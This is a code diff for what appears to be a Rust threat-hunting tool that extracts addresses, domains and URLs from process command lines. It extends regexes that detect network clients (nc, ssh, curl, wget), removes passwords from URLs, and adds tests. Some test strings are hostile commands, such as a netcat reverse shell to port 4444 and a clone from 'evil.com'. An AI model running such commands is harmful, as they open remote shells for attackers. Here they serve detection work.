@@ -11,8 +11,9 @@ use regex_automata::util::syntax;
 use super::super::Confidence;
 use super::super::facts::{Kind as FileKind, Place};
 use super::super::indicators::Kind;
+use super::super::indicators::guess::is_name_of_file;
 use super::super::indicators::value::{Value, host};
-use super::{Hunt, Observable, observable};
+use super::{Hunt, Observable, as_text, observable};
 use crate::memory::{Encoding, Matcher, Pattern, SearchOptions};
 use crate::model::ids::Pid;
 
@@ -67,9 +68,11 @@ fn commands(hunt: &mut Hunt<'_, '_>) {
         let from = format!("processes, pid {pid}: command line of {}", process.title());
         let (confidence, findings) = (hunt.confidence(pid), findings_of(hunt, pid));
         yields(hunt, &line, confidence, &from, &findings);
-        let Ok(text) = std::str::from_utf8(&line) else { continue };
+        let (text, not_text) = as_text(&line);
         let imitates = findings.iter().any(|(rule, _)| matches!(*rule, "PROC-001" | "PROC-002"));
-        let left_out = if imitates {
+        let left_out = if not_text.is_some() {
+            not_text
+        } else if imitates {
             Some("it imitates the name of another program, which has it rightly".to_owned())
         } else if asked.contains(line.as_bstr()) {
             Some("the command of the container itself".to_owned())
@@ -200,8 +203,8 @@ fn values(text: &[u8]) -> Vec<(Kind, String, Option<u16>)> {
             r#"[a-zA-Z][a-zA-Z0-9+.-]{1,20}://[^\s"'<>\\^`{|}\x00-\x1f\x7f-\xff]{4,1000}"#,
             r"/dev/(?:tcp|udp)/[A-Za-z0-9.:-]{1,253}/[0-9]{1,5}",
             r"\b[A-Za-z0-9][A-Za-z0-9.-]{1,250}\.[A-Za-z]{2,24}:[0-9]{2,5}\b",
-            r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?:[: ][0-9]{2,5})?\b",
-            r"\b(?:nc|ncat|netcat|ssh|telnet|ping|dig|nslookup|host)\s+(?:-[^\s]+\s+)*[A-Za-z0-9][A-Za-z0-9.-]{1,250}\.[A-Za-z]{2,24}\b",
+            r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}:[0-9]{2,5}\b",
+            r"\b(?:nc|ncat|netcat|ssh|scp|sftp|ftp|telnet|ping|dig|nslookup|host|curl|wget)\s+(?:-[^\s]+\s+(?:[0-9]{1,6}\s+)?)*(?:[A-Za-z0-9_.-]{1,64}@)?(?:(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[A-Za-z0-9][A-Za-z0-9.-]{1,250}\.[A-Za-z]{2,24})(?:[: ][0-9]{2,5})?\b",
         ];
         let syntax = syntax::Config::new().utf8(false).unicode(false);
         Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build_many(&sources).ok()
@@ -217,18 +220,35 @@ fn values(text: &[u8]) -> Vec<(Kind, String, Option<u16>)> {
                 let port = parts.next().and_then(|port| port.parse().ok());
                 endpoint(parts.next().unwrap_or_default(), port, &mut all);
             }
-            2 | 3 => match said.split_once([':', ' ']) {
-                Some((host, port)) => endpoint(host, port.parse().ok(), &mut all),
-                None => endpoint(said, None, &mut all),
-            },
-            _ => endpoint(said.rsplit(char::is_whitespace).next().unwrap_or_default(), None, &mut all),
+            // A line of a program, as in `main.go:12`, looks like a port.
+            2 if said.split_once(':').is_some_and(|(host, _)| is_name_of_file(host)) => {}
+            2 | 3 => {
+                if let Some((host, port)) = said.split_once(':') {
+                    endpoint(host, port.parse().ok(), &mut all);
+                }
+            }
+            _ => behind_client(said, &mut all),
         }
     }
     all
 }
 
+/// The host behind the name of a client and its options, and the port behind it.
+fn behind_client(said: &str, all: &mut Vec<(Kind, String, Option<u16>)>) {
+    let (before, last) = said.rsplit_once(char::is_whitespace).unwrap_or(("", said));
+    let is_port = last.bytes().all(|byte| byte.is_ascii_digit());
+    let host = if is_port { before.rsplit(char::is_whitespace).next().unwrap_or_default() } else { last };
+    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
+    let (host, port) = host.split_once(':').unwrap_or((host, if is_port { last } else { "" }));
+    if !is_name_of_file(host) {
+        endpoint(host, port.parse().ok(), all);
+    }
+}
+
 fn url(text: &str, all: &mut Vec<(Kind, String, Option<u16>)>) {
     let text = text.trim_end_matches(['.', ',', ';', ':', ')', ']', '!', '*', '\'']);
+    // Whoever hunts for the URL needs no user and no password, and nobody else should read them.
+    let text = &without_user(text);
     if let Ok(value) = Value::new(Kind::Url, text) {
         let name = host(&value.text).to_owned();
         let key = value.text.split_once("://").map_or("", |(_, rest)| rest).trim_end_matches('/');
@@ -242,12 +262,19 @@ fn url(text: &str, all: &mut Vec<(Kind, String, Option<u16>)>) {
     }
 }
 
+/// A URL without the user and the password before its host.
+fn without_user(url: &str) -> String {
+    let Some((scheme, rest)) = url.split_once("://") else { return url.to_owned() };
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let (authority, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
+    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+    format!("{scheme}://{host}{path}")
+}
+
 fn endpoint(name: &str, port: Option<u16>, all: &mut Vec<(Kind, String, Option<u16>)>) {
     let port = port.filter(|&port| port != 0);
     if let Ok(address) = Value::new(Kind::Address, name) {
-        // A version has four numbers, too.
-        let is_likely = address.kind == Kind::Address && (port.is_some() || !address.text.starts_with('0'));
-        if is_likely {
+        if address.kind == Kind::Address {
             all.push((Kind::Address, address.text, port));
         }
     } else if let Ok(domain) = Value::new(Kind::Domain, name) {
@@ -277,6 +304,14 @@ mod tests {
         assert_eq!(said("nc 203.0.113.7 4444 -e sh"), ["address 203.0.113.7:4444"]);
         assert_eq!(said("nc -v evil.com 4444"), ["domain evil.com"]);
         assert_eq!(said("connect evil.com:443 now"), ["domain evil.com"]);
+        assert_eq!(said("ssh -p 22 -v root@203.0.113.9"), ["address 203.0.113.9"]);
+        assert_eq!(
+            said("git clone https://bot:pa55@evil.com/x.git"),
+            ["url https://evil.com/x.git", "domain evil.com"],
+            "no password leaves"
+        );
         assert!(said("python3 app.py --config app.conf os.path v1.2.3").is_empty());
+        assert!(said("at app.py:12 main.go:345 ssh key.pem VERSION=5.15.0.91 kernel 5.15.0.91").is_empty());
+        assert_eq!(said("static.evil.sh:8080"), ["domain static.evil.sh"]);
     }
 }
